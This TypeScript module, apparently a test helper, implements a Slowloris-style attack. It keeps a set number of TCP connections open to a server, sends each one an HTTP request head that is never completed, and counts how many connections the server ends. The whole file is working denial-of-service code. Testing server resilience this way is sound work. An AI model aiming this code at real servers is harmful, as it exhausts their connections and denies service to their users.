import { connect, type Socket } from 'node:net';

/** Sent at once; the rest of the head never comes. */
const INCOMPLETE_HEAD = 'GET /api/articles HTTP/1.1\r\nHost: conduit.example\r\nX-Rest: ';
const TICK_MS = 20;

export interface HalfOpenOptions {
  readonly url: string;
  /** The address that the connections come from; the operating system's choice without it, which is faster. */
  readonly from?: string;
  /** Connections that it keeps open: it replaces each that the server ends. */
  readonly count: number;
  /** Connections that it opens in a second, at most. */
  readonly rate: number;
}

/** Connections with an incomplete request, as an attacker keeps them. */
export class HalfOpenConnections {
  readonly #open = new Set<Socket>();
  readonly #timer: NodeJS.Timeout;
  /** Connections that were established. */
  opened = 0;
  /** Established connections that the server ended. */
  ended = 0;
  /** The most that were open at one time. */
  peak = 0;

  constructor(private readonly options: HalfOpenOptions) {
    this.#timer = setInterval(() => this.#fill(), TICK_MS);
  }

  get open(): number {
    return this.#open.size;
  }

  close(): void {
    clearInterval(this.#timer);
    for (const socket of this.#open) socket.resetAndDestroy();
  }

  #fill(): void {
    const { count, rate } = this.options;
    const missing = Math.min(count - this.#open.size, Math.ceil((rate * TICK_MS) / 1_000));
    for (let index = 0; index < missing; index += 1) this.#connect();
    this.peak = Math.max(this.peak, this.#open.size);
  }

  #connect(): void {
    const { hostname, port } = new URL(this.options.url);
    const { from } = this.options;
    const socket = connect({ host: hostname, port: Number(port), ...(from && { localAddress: from }) });
    this.#open.add(socket);
    let isEstablished = false;
    socket.once('connect', () => {
      isEstablished = true;
      this.opened += 1;
      socket.write(INCOMPLETE_HEAD);
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      this.#open.delete(socket);
      if (isEstablished) this.ended += 1;
    });
    socket.resume();
  }
}
